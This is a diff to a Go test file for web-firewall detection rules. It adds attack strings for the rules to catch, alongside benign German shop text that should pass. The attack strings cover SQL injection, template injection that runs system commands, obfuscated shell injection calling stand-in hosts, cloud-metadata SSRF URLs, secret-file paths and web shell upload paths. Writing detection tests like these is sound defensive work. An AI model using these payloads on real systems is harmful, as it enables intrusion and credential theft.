@@ -19,6 +19,7 @@ var mendedRules = []values{
 		[]string{
 			`"!"`, `"! Y`, "'!`", "`!1", `x"!1`, "1' union select 1", `" UNION ALL SELECT x`, "select user(", "current_user(", "x from information_schema.tables",
 			"into outfile 'x'", "exec master.dbo.x", "x exec xp_cmdshell", "SELECT IIF(1>1,2,3)", `"a"; "! b`,
+			`'x'!='y`, `x'!='y`, `1"!="2`,
 		},
 		[]string{
 			`"Sehr gut"! Immer wieder`, `Mein Arzt sagt: "Nehmen Sie das"! Seitdem keine Schmerzen`, `"Top"! 5 Sterne`, `"Super"!Immer wieder`, `'Sehr gut'! Danke`,
@@ -142,6 +143,7 @@ var addedRules = []values{
 		[]string{
 			"GET /download?template=/.dockerenv", "GET /.dockerenv", "/.dockerenv", `C:\x\.dockerenv`, "json: {\"file\":\"/.dockerenv\"}",
 			"GET /s/2333e/_/;/META-INF/maven/pom.properties", "META-INF/MANIFEST.MF", `WEB-INF\web.xml`, "file=/WEB-INF/classes/application.properties", "cookie: theme=/META-INF/context.xml",
+			".dockerenv", "/.DS_Store", "GET /WEB-INF;/x", "/BOOT-INF/classes/x", "/run/secrets/kubernetes.io/serviceaccount/token", "a=http://www.w3.org/2001/XInclude",
 		},
 		[]string{
 			"Docker & Umgebung", "GET /docker/env", "dockerenv", "Meta-Info", "metainf", "json: {\"web\":\"inf/o\"}", "GET /web-info/", "Das Web: INF-Symbole",
@@ -156,6 +158,8 @@ var addedRules = []values{
 			`#set($s=$class.inspect("java.lang.Boolean").type)`, `<#assign ex=("freemarker.temp"+"late.utility.Execute")?new()>`,
 			"#{7*7}", "*{7*7}", "@(7*7)", "<%= 7*7 %>", "<%= foo(1) %>", "{$smarty.version}", "{{ product.class.name }}", "{{app.getClass()}}", "{{app.get('x')}}",
 			`json: {"template":"{{'a'.toUpperCase()}}"}`, "cookie: name={{7*7}}",
+			"{{7+7}}", "{{{'id':1}|map('passthru')}}", `{{request["application"]}}`, "x-shop: {{7*7}}", "x-shop: ${env:HOME}", "{'id'|system}", "{$s=$smarty.template_object}", "{7*7}",
+			"$e.getClass()", "#foreach($i in $x)", "#macro(x)", "%{7*7}", `<@"x"?interpret />`, "#{`id`}", "@(1+2)", `{{ .System "ls" }}`, "{{<%[%'\"}}%\\", "{{app.request.server.all}}",
 		},
 		[]string{
 			"Hallo {{ order.orderCustomer.firstName }}, Ihre Bestellung {{ order.orderNumber }} ist da.", "{{ customer.firstName }}", "{{ 'account.hello'|trans }}",
@@ -167,22 +171,32 @@ var addedRules = []values{
 			"{{var order.getIncrementId()}}", `{{trans "Danke. Bitte (nochmal), %name" name=$order.customer_name}}`, `{{layout handle="sales_email_order_items" order=$order}}`,
 			`{{block class='Magento\Framework\View\Element\Template' template='Magento_Sales::email/order.phtml'}}`,
 			"*{box-sizing:border-box;margin:0 -5px}", "[{ $oView->title }]", "Bestellung #12 (eilig)", "{l s='Konto'}", "5 <% 7 und 3 %> 2", "{{ kein Ende (x)", "@(2-3 Tage)", "{$product.name}",
+			"{foreach $items as $i}", "{{#if bestellung}}{{nummer}}{{/if}}", "Maße 7*7 cm, {7 x 7}", "{{template config_path=\"a/b\"}}", "x-shop: {klammer}", "{$i.name|escape}", "mail@system.io",
 		},
 	},
 	{
 		9900130,
 		[]string{
 			`\lsof`, `\env`, `\id `, `\lsblk`, `'c'url attacker.example`, `"w"get attacker.example`, `who''ami`, `json: {"host":"'c'url attacker.example"}`, "cookie: h=\\lsof",
+			`;\id`, `8.8.8.8;\id`, `;'c'url attacker.example`, `|wh''oami`, `x;c'u'rl a.example`,
 		},
 		[]string{
 			`"Perl" Ohrringe`, "Rock'n'Roll CD", `\\server\freigabe`, `Magento\SalesRule\Model\Rule`, `\Shopware\Core\Framework`, "'Cat' Futter", "L'Oreal Curl Cream", "d'eau de toilette",
 			`D:\env\bin`, "id", `"id"`, "'n Stück Seife", `5" Bildschirm`,
+			"Musik; Rock'n'Roll find ich gut", `C:\a;\\server\x`, "Haus 7; 'Kater' allein",
 		},
 	},
 	{
 		9900131,
-		[]string{`;$a cat x.txt`, `x; $a cat x`, `|$x id`, `&$x ls`, `x|$a $b curl x`, "x\n$a tac x", `json: {"a":"x;$a ls"}`, "cookie: a=1|$a id", `;$@ cat x`},
-		[]string{"US $ 5; $a", "5 $; Katze", "$a cat", "100 $ | 5 €", "A & $ B", `json: {"price":"$5"}`, "query($a:Int)", "Cat; Futter $", "x;$5 cat"},
+		[]string{
+			`;$a cat x.txt`, `x; $a cat x`, `|$x id`, `&$x ls`, `x|$a $b curl x`, "x\n$a tac x", `json: {"a":"x;$a ls"}`, "cookie: a=1|$a id", `;$@ cat x`,
+			`;$a $b cat x`, `;$0 -c whoami`, `;if true; then lspci; fi`, `;a=c;b=at;$a$b x`, `;$'cat' x`, `who$@ami`, `;/bin/c?t x`, `;cat<x`,
+			"`id`", `'cscli' alerts list`, `;'curl' http://a.example`, `;id`, `8.8.8.8;id`, `;. ./x.sh`, `;date -f x`,
+		},
+		[]string{
+			"US $ 5; $a", "5 $; Katze", "$a cat", "100 $ | 5 €", "A & $ B", `json: {"price":"$5"}`, "query($a:Int)", "Cat; Futter $", "x;$5 cat",
+			`"Curl" Shampoo; "Sleep" Tee`, `"Perl" Ohrringe`, "the `id` field", "pzn;name;id", "name|id", "if; then", "Preis; $5", "do done while", "a<b; c<d",
+		},
 	},
 	{
 		9900140,
@@ -211,6 +225,8 @@ var addedRules = []values{
 			"https://169.16689662/", "https://user@169.254.170.2/v2", "//425.510.425.510/", "https://a.169.254.169.254.nip.io/", "https://169-254-169-254.sslip.io/",
 			"//metadata.google.internal/computeMetadata", "https://metadata.google.internal", "169.254.169.254", "https://1684301000/", "//100.100.100.200/latest", "https://①⑥⑨.254.169.254/",
 			`json: {"url":"dict://169.254.169.254:80/"}`, "url=//025177524776/",
+			"https:169.254.169.254/", "GET /proxy/169.254.169.254/x", "referer: https://169.254.169.254/", "https://１６９.254.169.254/", "https://make-169.254.169.254-rebind.1u.ms/",
+			"https://kubernetes.default.svc/", "https://3221225664/",
 		},
 		[]string{
 			"https://shop.example/kasse", "//cdn.shop.example/x.js", "https://192.0.2.11/", "169,25", "1692541692", "2852039166", "0xa9", "https://metadata.shop.example/", "Metadata. Google it",
@@ -227,6 +243,25 @@ var addedRules = []values{
 		[]string{
 			`json: {"name":"x.php"}`, `json: {"base64_encoded_data":"R0lGODlh","name":"bild.gif"}`, `json: {"base64":"x","name":"Philips PHP 3.5"}`, `json: {"base64":"x","template":"index.php"}`,
 			`json: {"base64":"x","name":"Anleitung.pdf"}`, `json: {"base64":"x","first_name":"Jörg"}`, "form: name=index.php&token=abc", `json: {"base64":"x","name":"Dr. Shah"}`, `json: {"image":"/9j/4AAQ","filename":"rezept.phpx.jpg"}`,
+		},
+	},
+	{
+		9900162,
+		[]string{
+			"GET /media/custom_options/quote/x/y/x.php", "GET /pub/media/a.phtml", "GET /wp-content/uploads/2026/x.php?c=id", "GET /media/x.php/y.jpg", "GET /media/x.ph%70", "GET /out/pictures/x.phar",
+			"GET /media/x.jsp", "GET /MEDIA/x.PHP5", "GET /thumbnail/x.php;a", "GET //media//x.pht",
+		},
+		[]string{
+			"GET /media/x.jpg", "GET /media/php.png", "GET /index.php/media/x.jpg", "GET /media/x.php.jpg", "GET /mediathek/index.php", "GET /wp-content/plugins/x.php", "GET /media/a.pdf?x=y.php", "GET /thumbnail/phpmyadmin",
+		},
+	},
+	{
+		9900163,
+		[]string{
+			"file: x.aspx", "file: x.shtml", "file: x.cgi", "file: x.pl", "file: x.php%00.jpg", "file: x.py", "file: x.ashx", "file: x.aspx. .",
+		},
+		[]string{
+			"file: rezept.jpg", "file: Sp.z.o.o.pdf", "file: php.jpg", "file: x.php.jpg", "file: Dr. Shah.pdf", "file: asp.net.pdf", "file: plan.pla", "file: bild.pyramide.png", "file: a.cgi.zip",
 		},
 	},
 	{
